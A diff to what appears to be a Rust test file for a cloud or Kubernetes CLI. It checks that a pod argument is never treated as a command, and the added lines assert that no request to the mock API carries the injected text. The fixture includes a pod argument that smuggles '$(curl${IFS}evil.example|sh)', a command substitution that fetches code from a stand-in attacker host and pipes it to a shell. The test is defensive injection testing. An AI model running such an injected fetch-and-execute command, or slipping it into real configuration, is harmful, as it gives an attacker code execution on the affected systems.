@@ -514,8 +514,11 @@ async fn an_argument_of_a_pod_is_no_part_of_a_command() {
         "spec": {"containers": [{"image": "registry.example.org/ingress-nginx/controller:v1.15.1",
             "args": ["/nginx-ingress-controller", "--configmap=default/nginx?$(curl${IFS}evil.example|sh)"]}]}});
     stage.kube.create(&pod).unwrap();
+    let before = stage.kube.requests().len();
     let (code, output) = with_cloud(&stage, &["web", "-o", "json"]);
     assert!(code == 3 && !output.contains("curl"), "{code} {output}");
+    let asked = stage.kube.requests().split_off(before);
+    assert!(asked.iter().all(|request| !request.path.contains("curl")), "{asked:?}");
 }
 
 /// Many Services cost lists, not calls for each.
